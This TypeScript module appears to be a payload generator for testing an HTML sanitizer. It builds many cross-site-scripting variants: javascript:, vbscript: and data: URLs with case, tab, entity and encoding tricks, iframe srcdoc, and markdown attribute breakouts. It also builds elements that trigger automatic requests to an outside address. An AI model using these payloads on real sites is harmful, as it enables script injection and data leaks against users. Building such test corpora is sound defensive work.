/** Addresses that are code, and elements that ask for something by themselves. */
import { base64, references, type Family, type Maker } from './maker'

const schemes: readonly Maker[] = [
  (run) => `javascript:${run}`,
  (run) => `<a href="javascript:${run}">read on</a>`,
  (run) => `<a href="JaVaScRiPt:${run}">read on</a>`,
  (run) => `<a href="java\tscript:${run}">read on</a>`,
  (run) => `<a href=" &#14; javascript:${run}">read on</a>`,
  (run) => `<a href="javascript&colon;${run}">read on</a>`,
  (run) => `<a href="${references('javascript:')}${run}">read on</a>`,
  (run) => `<a href="javascript://%0a${run}">read on</a>`,
  (run) => `<a href="vbscript:${run}">read on</a>`,
  (run) => `<a href="data:text/html,<script>${run}</script>">read on</a>`,
  (run) => `<a href="blob:app://parish/x" ping="javascript:${run}">read on</a>`,
  (run) => `<iframe src="javascript:${run}"></iframe>`,
  (run) => `<iframe src="javascript:parent.${run}"></iframe>`,
  (run) => `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  (run) => `<iframe srcdoc="&lt;img src=x onerror=${run}&gt;"></iframe>`,
  (run) => `<iframe src="data:text/html;base64,${base64(`<script>${run}</script>`)}"></iframe>`,
  (run) => `<object data="javascript:${run}"></object>`,
  (run) => `<object data="data:text/html,<script>${run}</script>"></object>`,
  (run) => `<embed src="data:text/html,<script>${run}</script>">`,
  (run) => `<form action="javascript:${run}"><button>go</button></form>`,
  (run) => `<form><button formaction="javascript:${run}">go</button></form>`,
  (run) => `<form><input type=submit formaction=javascript:${run}></form>`,
  (run) => `<script src="data:text/javascript,${run}"></script>`,
  (run) => `[read on](javascript:${run})`,
  (run) => `![picture](x"onerror="${run})`,
  (run) => `<https://parish.org/"onmouseover="${run}">`
]

const askers: readonly Maker[] = [
  (_run, away) => `<img src="${away}">`,
  (_run, away) => `<img srcset="${away} 1x, ${away}2 2x">`,
  (_run, away) => `<picture><source srcset="${away}"><img></picture>`,
  (_run, away) => `<img lowsrc=x dynsrc=x src='${away}'`,
  (_run, away) => `<input type=image src=${away}>`,
  (_run, away) => `<body background="${away}">`,
  (_run, away) => `<table background="${away}"><td>x</td></table>`,
  (_run, away) => `<video poster="${away}"></video>`,
  (_run, away) => `<video src="${away}" autoplay></video>`,
  (_run, away) => `<audio src="${away}" autoplay></audio>`,
  (_run, away) => `<iframe src="${away}"></iframe>`,
  (_run, away) => `<frameset><frame src="${away}"></frameset>`,
  (_run, away) => `<object data="${away}"></object>`,
  (_run, away) => `<embed src="${away}">`,
  (_run, away) => `<link rel=stylesheet href="${away}">`,
  (_run, away) => `<link rel=prefetch href="${away}">`,
  (_run, away) => `<link rel=preload as=image href="${away}">`,
  (_run, away) => `<link rel=preconnect href="${away}">`,
  (_run, away) => `<link rel=dns-prefetch href="${away}">`,
  (_run, away) => `<link rel=icon href="${away}">`,
  (_run, away) => `<link rel=manifest href="${away}">`,
  (_run, away) => `<meta http-equiv="refresh" content="0;url=${away}">`,
  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  (_run, away) => `<meta http-equiv="Content-Security-Policy" content="img-src ${away}">`,
  (_run, away) => `<meta http-equiv="Link" content="<${away}>; rel=stylesheet">`,
  (_run, away) => `<base href="${away}/">`,
  (_run, away) => `<base target="_blank"><a href="${away}">read on</a>`,
  (_run, away) => `<form action="${away}" id=f><input name=letter></form><button form=f>go</button>`,
  (_run, away) => `<a href="${away}" ping="${away}" download>read on</a>`,
  (_run, away) => `<portal src="${away}"></portal>`,
  (_run, away) => `<script type="speculationrules">{"prefetch":[{"urls":["${away}"]}]}</script>`
]

export const addresses: readonly Family[] = [
  { name: 'addresses that are code', makers: schemes },
  { name: 'elements that ask', makers: askers }
]
